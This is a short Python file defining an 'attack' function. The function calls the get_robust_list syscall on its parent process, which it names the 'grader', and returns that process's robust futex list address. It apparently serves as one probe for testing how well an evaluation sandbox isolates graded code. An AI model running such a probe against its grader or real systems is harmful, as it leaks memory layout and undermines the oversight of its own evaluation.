import ctypes
import os
import platform

from kernel import C, sure

GET_ROBUST_LIST = 100 if platform.machine() == "aarch64" else 274


def attack(controller):
    grader = os.getppid()
    if grader <= 1:
        return None
    head, length = ctypes.c_void_p(), ctypes.c_size_t()
    sure(C.syscall(GET_ROBUST_LIST, grader, ctypes.byref(head), ctypes.byref(length)))
    return "a list at %#x of process %d" % (head.value or 0, grader)
